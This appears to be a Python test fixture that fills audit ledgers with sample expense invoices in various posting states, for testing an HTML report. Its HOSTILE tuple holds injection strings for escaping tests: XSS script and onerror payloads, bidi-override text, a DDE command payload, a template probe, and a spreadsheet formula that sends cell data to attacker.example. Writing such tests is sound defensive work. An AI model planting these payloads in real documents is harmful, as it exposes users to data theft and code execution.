"""Audit ledgers for tests of the HTML report: a month with everything in it, and texts that mean harm."""

from __future__ import annotations

from typing import Any

from target_dynamics_nav.document import Document, Problem
from target_dynamics_nav.ledger import Books, Ledger, NavDocument
from target_dynamics_nav.nav.port import DocumentKind
from target_dynamics_nav.records import read_document
from target_dynamics_nav.settlement import Status
from tests.target_dynamics_nav.ledgers import Place

EUROPE = Books("https://nav.example/api/v2.0", "c1", "CRONUS Europe")
SERVICES = Books("https://nav.example/api/v2.0", "c2", "CRONUS Services")
POLICIES = (("Northwind Europe", None), ("Northwind America", "USD"), ("Northwind Britain", "GBP"))
ACCOUNTS = (
    *(("8430", "Airfare"), ("8440", "Hotel"), ("8450", "Meals"), ("8470", "Taxi and Rideshare")),
    ("8480", "Rail"),
)
DEPARTMENTS = (("ADM", "Administration"), ("PROD", "Production"), ("SALES", "Sales"), ("RD", "R&D"))

PERSON = "grace.hopper@northwind.example"
HOSTILE = (
    "</script><script>document.title='taken'</script>",
    "\"quoted\" 'text' <b onclick=alert(1)>&amp;",
    "]]></style><img src=x onerror=\"document.title='taken'\">",
    "\u202eevil\u202c \u2067right to left \u05e9\u05dc\u05d5\u05dd\u2069",
    '=HYPERLINK("http://attacker.example/?"&A1,"press")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "{{ 7 * 7 }}{% raw %}",
)
"""What somebody may write into a report."""


def document(
    number: int, kind: DocumentKind = DocumentKind.PURCHASE_INVOICE, **changes: Any
) -> Document:
    """A report of May 2026 with five expenses, as the mapper gives it; all of one number are the same."""
    policy, currency = POLICIES[number % 3]
    lines = []
    decided_by = {
        "company": "no rule: the target's own setting",
        "currency_code": f"local_currency (line 21): {currency or 'EUR'}",
        "document": f'documents.reimbursable.by_policy["{policy}"].document (line 55)',
        "vendor_number": f"documents.reimbursable.vendor_number (line 50): custom field 'E1{number % 30:03}'",
        "posting_date": "dates.posting_date (line 102): approved",
        "document_date": "dates.document_date (line 103): last expense",
        "dimensions.AREA": "dimensions.AREA: employee_custom_field_2 (line 92): employee custom field 2 'EU'",
        "dimensions.BUSINESSGROUP": "dimensions.BUSINESSGROUP.fixed (line 96): always",
    }
    for position in range(5):
        account, category = ACCOUNTS[(number + position) % len(ACCOUNTS)]
        department, tag = DEPARTMENTS[(number + position // 3) % len(DEPARTMENTS)]
        lines.append(
            {
                "line_number": position + 1,
                "account_type": "G/L Account",
                "account_number": account,
                "description": f"{category}, day {position + 1}",
                "amount": f"{10 + number % 90}.{position}{number % 10}",
                "tax_code": None,
                "dimensions": [{"code": "DEPARTMENT", "value": department}],
                "source_id": f"{number:012}{position:02}",
            }
        )
        decided_by[f"lines[{position}].account_number"] = (
            f"accounts: category_gl_code (line 69): category '{category}'"
        )
        decided_by[f"lines[{position}].dimensions.DEPARTMENT"] = (
            f"dimensions.DEPARTMENT: tag_gl_code (line 80): tag '{tag}'"
        )
    day = f"2026-05-{1 + number % 31:02}"
    cents = sum(int(str(line["amount"]).replace(".", "")) for line in lines)
    record = {
        "document_key": f"E{10_000_000 + number}-R",
        "vendor_number": f"E1{number % 30:03}",
        "posting_date": day,
        "document_date": day,
        "total": f"{cents // 100}.{cents % 100:02}",
        "currency_code": currency,
        "description": f"Trip {number}",
        "dimensions": [
            {"code": "AREA", "value": "EU"},
            {"code": "BUSINESSGROUP", "value": "HOME"},
        ],
        "lines": lines,
        "source": {
            "system": "expensify",
            "id": f"R{number:08}xyz",
            "number": f"{10_000_000 + number}",
            "name": f"Trip {number} of Grace Hopper",
            "policy_id": f"A1B2C3D4E5F6070{1 + number % 3}",
            "policy_name": policy,
            "submitter": PERSON,
            "approved_at": f"{day}T09:00:00Z",
            "part": "reimbursable",
        },
        "decided_by": decided_by,
    }
    if kind is DocumentKind.JOURNAL_ENTRY:
        record |= {
            "vendor_number": None,
            "document_key": f"E{10_000_000 + number}-C",
            "balancing_account": {"type": "G/L Account", "number": "2910"},
        }
    return read_document(kind, {**record, **changes})


def post(ledger: Ledger, books: Books, item: Document, nav_number: str) -> None:
    """Record how a document was posted."""
    for kind, told in (
        ("looked_up", {"found": []}),
        ("draft_intended", {"attempt": 1}),
        ("draft_created", {"nav_number": nav_number}),
        ("draft_verified", {}),
        ("post_intended", {"attempt": 1}),
    ):
        ledger.record_event(kind, told, books=books, key=item.key)
    ledger.record_standing(
        books,
        item,
        Status.POSTED,
        [],
        nav_id=f"id-{nav_number}",
        nav_number=nav_number,
        posted_digest=item.digest,
    )


BLOCKED = Problem(
    "account_blocked",
    "The account 8320 is blocked in NAV.",
    "lines[0].account_number",
    "8320",
    "Unblock the account in NAV, or map the category to another one.",
)
UNMAPPED = Problem(
    "account_unmapped",
    "No rule gives an account for the category “Team Événements”.",
    "lines[0].account_number",
    None,
    "Add the category to accounts in the rules file.",
)
DIFFERS = Problem(
    "content_changed",
    "The report differs from what is posted: the total was 100.00.",
    "total",
    None,
    "Correct NAV by hand, then waive the report.",
)
NO_ANSWER = Problem(
    "nav_no_answer", "NAV did not answer.", hint="Nothing: the next run tries again."
)


SPECIAL = 1000
"""Number of the first document that is not simply posted."""


def fill_month(place: Place, posted: int = 40) -> None:
    """A month: posted documents, and one or more of every other standing.

    Of the posted ones every tenth belongs to the second company.
    """
    ledger = place.open("run-1")
    first = 0 if posted < SPECIAL else 2 * SPECIAL
    for number in range(first, first + posted):
        post(ledger, SERVICES if number % 10 == 9 else EUROPE, document(number), f"PI{number:06}")
        if number % 100 == 99:
            ledger.flush()
    for number, reasons in ((1000, BLOCKED), (1001, BLOCKED), (1002, UNMAPPED), (1003, BLOCKED)):
        ledger.record_standing(EUROPE, document(number), Status.HELD, [reasons])
    undated = document(1004, posting_date=None, problems=[vars(UNMAPPED)])
    ledger.record_standing(EUROPE, undated, Status.HELD, [UNMAPPED])
    ledger.record_standing(EUROPE, document(1005), Status.FAILED, [NO_ANSWER])
    changed = document(1006)
    post(ledger, EUROPE, changed, "PI001006")
    now = document(1006, description="Trip, corrected")
    ledger.record_standing(EUROPE, now, Status.CHANGED, [DIFFERS])
    post(ledger, EUROPE, document(1007, DocumentKind.PURCHASE_CREDIT_MEMO), "PC001007")
    post(ledger, EUROPE, document(1008, DocumentKind.JOURNAL_ENTRY), "J001008")
    rule = Problem("skipped_by_rule", "A rule leaves this report out.")
    ledger.record_standing(EUROPE, document(1009), Status.SKIPPED, [rule])
    ledger.record_standing(EUROPE, document(1010), Status.HELD, [BLOCKED])
    ledger.record_standing(
        EUROPE, document(1011), Status.DRAFT, [], nav_id="d", nav_number="1011", draft_digest="d"
    )
    taken_back = document(1012)
    post(ledger, EUROPE, taken_back, "PI001012")
    back = NavDocument(
        nav_key=f"{taken_back.key}-R1",
        nav_id="id-back",
        nav_number="PC001012",
        role="credit",
        kind="purchase_credit_memos",
        part_number=1,
        digest=taken_back.digest,
        total=taken_back.total,
        currency_code=taken_back.currency_code,
        posting_date=taken_back.posting_date,
    )
    ledger.flush()
    ledger.record_nav_document(EUROPE, taken_back.key, back)
    for number, text in enumerate(HOSTILE, start=1100):
        _record_hostile(ledger, number, text)
    ledger.end_run("finished", {"posted": posted})
    ledger.waive(EUROPE, document(1010).key, "Paid by hand: Grace knows.", who="Ada Accountant")
    ledger.close()
    place.execute(
        "UPDATE documents SET held_since = '2026-04-20T06:00:00.000000Z' WHERE document_key = 'E10001000-R'"
    )
    place.execute(
        "UPDATE documents SET held_since = '2026-05-20T06:00:00.000000Z' WHERE document_key = 'E10001001-R'"
    )
    # Posted on the days of their posting dates, not all on the day of the test.
    place.execute(
        "UPDATE nav_documents SET at = posting_date || 'T06:00:00.000000Z' WHERE role <> 'draft'"
    )


def _record_hostile(ledger: Ledger, number: int, text: str) -> None:
    plain = document(number)
    source = {**plain.source, "policy_name": text, "name": text, "submitter": f"{text}@x.example"}
    lines = [
        {
            "line_number": 1,
            "account_type": "G/L Account",
            "account_number": "8430",
            "description": text,
            "amount": "1.00",
            "dimensions": [{"code": "PROJECT", "value": text[:20]}],
            "source_id": text[:60],
        }
    ]
    item = document(
        number,
        lines=lines,
        total="1.00",
        description=text,
        source=source,
        decided_by={"vendor_number": text, "lines[0].account_number": text},
    )
    problem = Problem("hostile_text", f"{text} is no account.", "lines[0]", text, f"Change {text}")
    if number % 2:
        ledger.record_standing(EUROPE, item, Status.HELD, [problem])
    else:
        post(ledger, EUROPE, item, f"PI{number:06}")
